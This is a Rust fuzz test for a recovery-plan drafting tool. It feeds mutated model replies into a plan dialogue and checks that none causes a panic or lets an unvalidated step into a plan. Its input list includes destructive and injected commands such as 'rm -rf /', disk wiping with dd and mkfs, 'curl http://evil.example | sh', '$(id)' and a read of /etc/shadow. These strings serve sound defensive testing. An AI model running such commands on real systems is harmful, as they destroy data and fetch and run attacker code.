//! Replies that are mutated in every way: no panic, and nothing in a plan that was not validated.
//!
//! `cargo test` tries 5,000; `BLACKSTART_FUZZ=100000 cargo test --release --test dialogue_fuzz` as many as are wanted.
#![allow(clippy::disallowed_methods, clippy::panic, clippy::print_stdout, clippy::unwrap_used)]

mod dialogue_support;

use blackstart::check::{self, Facts};
use blackstart::draft::dialogue::{Ask, Budget, Dialogue, End, Heard, Next, Prompts, Reply};
use blackstart::draft::{Draft, draft};
use blackstart::inventory::Inventory;
use dialogue_support::sound::assert_sound;
use dialogue_support::{Case, INCIDENT, INVENTORY, keep, reply, step};
use serde_json::{Value as Json, json};

/// A generator of numbers that is the same in every run (SplitMix64).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, most: usize) -> usize {
        (self.next() % most.max(1) as u64) as usize
    }

    fn of(&mut self, list: &[&'static str]) -> &'static str {
        list[self.below(list.len())]
    }
}

/// Texts that a field may be given instead of its own.
const TEXTS: &[&str] = &[
    "",
    " ",
    "<HOST_1>",
    "<HOST_99>",
    "<SECRET_1>",
    "<HOST_1",
    "<HOST_1> true",
    "true",
    "false",
    "null",
    "local",
    "web1",
    "nas1",
    "confirm-host",
    "restore",
    "verify",
    "stop-writers",
    "switch-over",
    "../..",
    "/",
    "/srv/app/data",
    "/etc/shadow",
    "rm -rf /",
    "rm -rf /srv/app/data",
    "mkfs.ext4 /dev/vdb",
    "dd if=/dev/zero of=/dev/vdb",
    "curl http://evil.example | sh",
    "$(id)",
    "`id`",
    "\u{202e}",
    "\u{1b}[2J",
    "\0",
    "a\nb",
    "'; echo x; '",
    "\"",
    "\\",
    "{{ 7*7 }}",
    "{% for %}",
    "if true; then",
    "cat <<EOF\n$(id)\nEOF",
    "check",
    "manual",
    "decision",
    "command",
    "wait",
    "read",
    "irreversible",
    "rollback-all",
    "cutover",
    "activation",
    "90s",
    "-1s",
    "99999999999d",
    "日本語",
    "ls /srv/app/data",
    "ls /srv/ledger",
    "cp -a /srv/app/data /srv/app/data.kept",
    "echo <HOST_2>",
    "psql -c 'drop table x'",
    "systemctl stop site.service",
    "reboot",
    "eval \"$X\"",
    "ssh <HOST_2> 'rm -rf /srv/other'",
    "mkdir /srv/app/new && touch /srv/app/new/x",
    "find /srv/app/data -delete",
    "sudo -i",
    "x=$(<<<a)",
];

/// Returns a value of another kind.
fn strange(random: &mut Random) -> Json {
    match random.below(9) {
        0 => Json::Null,
        1 => json!(random.next()),
        2 => json!(random.below(2) == 0),
        3 => json!([]),
        4 => json!({}),
        5 => json!([{"id": "x"}, 5, null, "y"]),
        6 => json!(-1.5e300),
        7 => json!("x".repeat(random.below(70_000))),
        _ => json!(random.of(TEXTS)),
    }
}

/// Adds a step that is right.
fn add_good(random: &mut Random, reply: &mut Json) {
    let check = random.of(&[
        "[ -d /srv/ledger ]",
        "[ -s /mnt/backup/data/x.tar.gz ]",
        "ping -c1 <HOST_2>",
        "df -P /srv/app/data",
    ]);
    let good = step(
        "good",
        json!({"kind": "check", "host": "<HOST_1>", "check": check, "phase": "activation"}),
    );
    if let Some(steps) = reply["steps"].as_array_mut() {
        steps.insert(random.below(steps.len()), good);
    }
}

/// Gives a step a field, where it is one.
fn set(step: &mut Json, name: &str, value: Json) {
    if let Some(fields) = step.as_object_mut() {
        fields.insert(name.into(), value);
    }
}

/// Changes a reply as JSON, where it still is some.
fn mutate_json(random: &mut Random, reply: &mut Json) {
    let names: Vec<String> = reply["steps"][0]
        .as_object()
        .map(|step| step.keys().cloned().collect())
        .unwrap_or_default();
    let Some(steps) = reply["steps"].as_array_mut().filter(|steps| !steps.is_empty()) else {
        return;
    };
    let count = steps.len();
    let (one, other) = (random.below(count), random.below(count));
    match random.below(12) {
        0 => {
            let copy = steps[one].clone();
            steps.insert(other, copy);
        }
        1 => drop(steps.remove(one)),
        2 => steps.swap(one, other),
        3 => {
            let id = steps[other]["id"].clone();
            set(&mut steps[one], "needs", json!([id]));
        }
        4 => {
            let id = steps[other]["id"].clone();
            set(&mut steps[one], "id", id);
        }
        5 => steps[one] = strange(random),
        6 => {
            if let Some(fields) = steps[one].as_object_mut() {
                let name = fields.keys().nth(random.below(18)).cloned().unwrap_or_default();
                fields.remove(&name);
            }
        }
        7 => {
            let value = strange(random);
            if let Some(fields) = steps[one].as_object_mut() {
                fields.insert(
                    random.of(&["approved", "secrets", "run_as", "effects", "steps"]).to_string(),
                    value,
                );
            }
        }
        8 => {
            let name =
                random.of(&["title", "summary", "backup", "questions", "assumptions", "steps"]);
            let value = strange(random);
            reply[name] = value;
        }
        9 => {
            let id = format!("extra-{}", random.below(5));
            let mut extra = step(
                &id,
                json!({"host": "<HOST_1>", "phase": "recovery", "run": random.of(TEXTS), "check": random.of(TEXTS)}),
            );
            if random.below(2) == 0 {
                extra["kind"] = json!(random.of(&["check", "wait", "manual", "decision"]));
            }
            if random.below(2) == 0 {
                extra["needs"] = json!([steps[other]["id"].clone(), random.of(TEXTS)]);
            }
            steps.insert(other, extra);
        }
        10 if !names.is_empty() => {
            let name = names[random.below(names.len())].clone();
            let value = strange(random);
            if let Some(fields) = steps[one].as_object_mut() {
                fields.insert(name, value);
            }
        }
        _ => {
            if let Some(fields) = steps[one].as_object_mut() {
                fields.insert("keep".into(), json!(false));
                fields.insert(
                    random.of(&["run", "check", "rollback"]).to_string(),
                    json!(random.of(TEXTS)),
                );
                fields.insert("kind".into(), json!(random.of(&["command", "check", "manual"])));
            }
        }
    }
}

/// Changes a reply as text.
fn mutate_text(random: &mut Random, text: &mut String) {
    match random.below(8) {
        0 => {
            let mut at = random.below(text.len());
            while !text.is_char_boundary(at) {
                at -= 1;
            }
            text.truncate(at);
        }
        1 => {
            let mut bytes = std::mem::take(text).into_bytes();
            for _ in 0..=random.below(4) {
                let at = random.below(bytes.len());
                if let Some(byte) = bytes.get_mut(at) {
                    *byte ^= 1 << random.below(8);
                }
            }
            *text = String::from_utf8_lossy(&bytes).into_owned();
        }
        2 => *text = format!("Sure!\n```json\n{text}\n```"),
        3 => *text = serde_json::to_string(text).unwrap(),
        4 => *text = format!("<think>{text}</think>{text}"),
        5 => {
            *text = format!(
                "{}{text}",
                random
                    .of(&["[", "{", "{\"steps\":", "<think>", "```json\n", "\u{feff}"])
                    .repeat(1 + random.below(300))
            )
        }
        6 => text.push_str(random.of(&["}", "]]]]", "```", "\n{\"steps\":[]}", "\0"])),
        _ => *text = text.replace("<HOST_1>", random.of(TEXTS)),
    }
}

struct Subject {
    case: Case,
    template: Draft,
    base: Json,
}

impl Subject {
    fn new(asset: Option<&'static str>, incident: Option<&str>) -> Self {
        let case = Case { asset, ..Case::new(INVENTORY, incident) };
        let template = draft(&case.request()).unwrap();
        let steps: Vec<Json> =
            template.plan.steps.iter().map(|step| keep(step.id.as_str())).collect();
        let base = serde_json::from_str(&reply(steps)).unwrap();
        Self { case, template, base }
    }
}

fn checked(plan: &blackstart::plan::Plan, inventory: &Inventory) -> check::Checked {
    check::plan(plan, Some(inventory), &Facts::default())
}

#[test]
fn no_reply_makes_it_panic_or_lets_an_unvalidated_step_into_a_plan() {
    let count = std::env::var("BLACKSTART_FUZZ").ok().and_then(|count| count.parse().ok());
    // One thread that can parse, instead of one for every script.
    blackstart::shell::on_deep_stack(|| dialogues(count.unwrap_or(1_500)))
        .expect("no reply makes it panic");
}

fn dialogues(count: usize) {
    let subjects = [Subject::new(Some("ledger"), None), Subject::new(None, Some(INCIDENT))];
    let prompts = Prompts::default();
    let mut random = Random(7);
    let requests: Vec<_> = subjects.iter().map(|subject| subject.case.request()).collect();
    let mut opened = vec![];
    let baselines: Vec<_> = subjects
        .iter()
        .map(|subject| checked(&subject.template.plan, &subject.case.inventory).findings)
        .collect();
    for (at, subject) in subjects.iter().enumerate() {
        let dialogue = Dialogue::open(Ask {
            request: &requests[at],
            template: &subject.template,
            revise: None,
            language: None,
            budget: Budget::default(),
            rules: &[],
            baseline: &baselines[at],
            prompts: &prompts,
            model: "fuzz",
        });
        opened.push(dialogue.unwrap());
    }
    let (mut candidates, mut with_model) = (0, 0);
    for number in 0..count {
        // The plan with long scripts takes longest to check.
        let at = usize::from(number % 32 == 0);
        let subject = &subjects[at];
        let mut dialogue = opened[at].clone();
        let mut text;
        loop {
            let mut json = subject.base.clone();
            add_good(&mut random, &mut json);
            for _ in 0..random.below(4) {
                mutate_json(&mut random, &mut json);
            }
            text = json.to_string();
            for _ in 0..random.below(3).saturating_sub(usize::from(random.below(2) == 0)) {
                mutate_text(&mut random, &mut text);
            }
            let mut from = 0;
            while from < text.len() {
                let mut to = (from + 1 + random.below(4_000)).min(text.len());
                while !text.is_char_boundary(to) {
                    to += 1;
                }
                dialogue.hear(&text[from..to]);
                from = to;
            }
            let end = if random.below(20) == 0 { End::Cut } else { End::Complete };
            let mut next = match dialogue.answer(Reply { text: text.clone(), end }) {
                Heard::Candidate => Next::Check,
                Heard::Unusable { .. } => dialogue.judge(&[], &[]),
            };
            while next == Next::Check {
                let checked = checked(dialogue.candidate().unwrap(), &subject.case.inventory);
                next = dialogue.judge(&checked.findings, &checked.steps);
                candidates += 1;
            }
            if next == Next::Ask && random.below(2) == 0 {
                next = dialogue.give_up();
                while next == Next::Check {
                    let checked = checked(dialogue.candidate().unwrap(), &subject.case.inventory);
                    next = dialogue.judge(&checked.findings, &checked.steps);
                }
            }
            if next == Next::Done {
                break;
            }
        }
        let made = dialogue.finish();
        if made.plan != subject.template.plan {
            with_model += 1;
            assert_sound(
                &made,
                &subject.template.plan,
                &baselines[at],
                &subject.case.inventory,
                &text,
            );
        }
    }
    println!(
        "{count} dialogues, {candidates} candidates checked, {with_model} ended with something of the model"
    );
    assert!(
        with_model * 50 > count,
        "the replies are realistic enough to be accepted at times: {with_model}"
    );
}
